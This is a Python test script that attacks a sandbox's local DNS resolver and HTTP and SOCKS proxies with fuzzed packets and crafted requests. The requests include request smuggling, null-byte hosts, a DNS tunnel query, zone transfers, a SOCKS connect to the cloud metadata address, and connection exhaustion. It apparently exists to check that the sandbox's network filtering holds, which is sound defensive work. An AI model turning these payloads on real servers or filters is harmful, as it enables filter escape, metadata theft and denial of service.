"""Breaks the protocols that a sandbox's network speaks. Prints one line for each attack: its name and what came back."""

import random
import socket
import struct
import sys

PORT = int(sys.argv[1])


def talk(port: int, *parts: bytes) -> bytes:
    """Ends the input, and returns everything that the other side sends until it closes."""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as peer:
        heard = b""
        try:
            for part in parts:
                peer.sendall(part)
            peer.shutdown(socket.SHUT_WR)
        except ConnectionError:
            pass
        try:
            while len(heard) < 65536 and (got := peer.recv(4096)):
                heard += got
        except ConnectionError:
            pass
        return heard


def ask(packet: bytes) -> bytes:
    """The answer to a packet. If none comes for long after that to a later query, there is none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(20)
        peer.sendto(packet, ("127.0.0.1", 53))
        peer.sendto(question(b"web.test", number=8), ("127.0.0.1", 53))
        answer, is_later_answered = b"", False
        while not (answer and is_later_answered):
            try:
                got = peer.recv(4096)
            except TimeoutError:
                if is_later_answered:
                    break
                raise
            if got[:2] == b"\0\x08":
                is_later_answered = True
                peer.settimeout(5)
            else:
                answer = got
        return answer


def question(name: bytes, kind: int = 1, flags: int = 0x0100, count: int = 1, number: int = 7) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    return struct.pack(">6H", number, flags, count, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


def verdict(answer: bytes) -> str:
    """The response code and the number of addresses, or that there was no answer."""
    return "silence" if len(answer) < 12 else f"{answer[3] & 15}/{answer[7]}"


def dns() -> None:
    random.seed(13)
    whole = question(b"web.test")
    for length in range(len(whole)):
        ask_only(whole[:length])
    for name, packet in {
        "answer": question(b"web.test", flags=0x8100),
        "update": question(b"web.test", flags=0x2800),
        "many questions": question(b"web.test", count=65535),
        "no question": struct.pack(">6H", 7, 0x0100, 0, 0, 0, 0),
        "loop": struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1",
        "beyond the end": struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\xff\xff\0\1\0\1",
        "long label": struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + b"\x3f" + b"a" * 5,
        "long name": question(b".".join([b"a" * 63] * 8)),
        "zero byte": question(b"web.test\0.evil"),
        "tunnel": question(b"c2VjcmV0.evil.test", kind=16),
        "transfer": question(b"web.test", kind=252),
        "any": question(b"web.test", kind=255),
    }.items():
        print(f"{name}: {verdict(ask(packet))}")
    for _ in range(50):
        ask_only(random.randbytes(random.randrange(1, 600)))
    framed = struct.pack(">H", len(whole)) + whole
    with socket.create_connection(("127.0.0.1", 53), timeout=20) as peer:
        peer.sendall(framed)
        print(f"stream: {verdict(peer.recv(4096)[2:])}")
    print(f"stream that lies: {len(talk(53, bytes([255, 255]) + whole))}")
    print(f"empty stream: {len(talk(53, bytes(2)))}")
    print(f"afterwards: {verdict(ask(whole))}")


def ask_only(packet: bytes) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(packet, ("127.0.0.1", 53))


def line(heard: bytes) -> str:
    return heard.split(b"\r\n")[0].decode("latin1") or "closed"


def proxy() -> None:
    target = b"web.test:%d" % PORT
    for name, parts in {
        "no request": [b"\r\n\r\n"],
        "noise": [bytes(range(256))],
        "endless line": [b"GET http://" + b"a" * 300_000],
        "endless head": [b"GET http://web.test/ HTTP/1.1\r\n"] + [b"X: " + b"y" * 60_000 + b"\r\n"] * 5,
        "many headers": [b"GET http://web.test/ HTTP/1.1\r\n" + b"X: y\r\n" * 20_000],
        "port 0": [b"CONNECT web.test:0 HTTP/1.1\r\n\r\n"],
        "port 65536": [b"CONNECT web.test:65536 HTTP/1.1\r\n\r\n"],
        "no port": [b"CONNECT web.test HTTP/1.1\r\n\r\n"],
        "user": [b"CONNECT evil@" + target + b" HTTP/1.1\r\n\r\n"],
        "zero byte": [b"CONNECT web.test\0.evil.test:%d HTTP/1.1\r\n\r\n" % PORT],
        "other scheme": [b"GET ftp://" + target + b"/ HTTP/1.1\r\n\r\n"],
        "origin form": [b"GET / HTTP/1.1\r\nHost: " + target + b"\r\n\r\n"],
        "two hosts": [b"GET http://" + target + b"/two HTTP/1.1\r\nHost: evil.test\r\nHost: web.test\r\n\r\n"],
        "folded": [b"GET http://" + target + b"/fold HTTP/1.1\r\nX: a\r\n GET /hidden\r\n\r\n"],
        "bare return": [b"GET http://" + target + b"/cr HTTP/1.1\r\nX: a\rGET /hidden HTTP/1.1\r\n\r\n"],
        "both lengths": [b"POST http://" + target + b"/ HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /hidden"],
        "huge chunk": [b"POST http://" + target + b"/chunk HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n"],
        "negative length": [b"POST http://" + target + b"/ HTTP/1.1\r\nContent-Length: -1\r\n\r\n"],
        "second request": [b"GET http://" + target + b"/first HTTP/1.1\r\n\r\nGET http://" + target + b"/hidden HTTP/1.1\r\n\r\n"],
    }.items():
        print(f"{name}: {line(talk(3128, *parts))}")


def socks() -> None:
    hello = b"\5\1\0"

    def connect(kind: bytes, address: bytes, port: int = PORT, command: int = 1) -> bytes:
        return bytes([5, command, 0]) + kind + address + struct.pack(">H", port)

    name = lambda text: bytes([len(text)]) + text
    for label, parts in {
        "version 4": [b"\4\1\0\x50\x7f\0\0\1\0"],
        "no method": [b"\5\0"],
        "only passwords": [b"\5\1\2"],
        "truncated": [hello, b"\5\1\0\3\xff" + b"a" * 10],
        "bind": [hello, connect(b"\3", name(b"web.test"), command=2)],
        "udp": [hello, connect(b"\3", name(b"web.test"), command=3)],
        "unknown kind": [hello, connect(b"\7", name(b"web.test"))],
        "no name": [hello, connect(b"\3", b"\0")],
        "zero byte": [hello, connect(b"\3", name(b"web.test\0.evil"))],
        "long name": [hello, connect(b"\3", name(b"a" * 255))],
        "port 0": [hello, connect(b"\3", name(b"web.test"), 0)],
        "metadata": [hello, connect(b"\1", bytes([169, 254, 169, 254]), 80)],
        "mapped": [hello, connect(b"\4", bytes(10) + b"\xff\xff\x7f\0\0\2")],
        "other port": [hello, connect(b"\3", name(b"web.test"), 22)],
        "allowed": [hello, connect(b"\3", name(b"web.test"))],
    }.items():
        heard = talk(3128, *parts)
        print(f"{label}: {heard[:4].hex(' ', 2) or 'closed'}")


def held() -> None:
    """Leaves many connections that send little or nothing, and one that never reads."""
    peers = []
    for count in range(120):
        peer = socket.create_connection(("127.0.0.1", 3128 if count % 2 else 53))
        peer.send([b"", b"\5", b"GET http://web", b"\0\x20"][count % 4])
        peers.append(peer)
    greedy = socket.create_connection(("127.0.0.1", 3128))
    greedy.sendall(b"GET http://web.test:%d/endless HTTP/1.1\r\n\r\n" % PORT)
    print("beside:", line(talk(3128, b"GET http://web.test:%d/beside HTTP/1.1\r\n\r\n" % PORT)))


for attack in sys.argv[2:]:
    {"dns": dns, "proxy": proxy, "socks": socks, "held": held}[attack]()
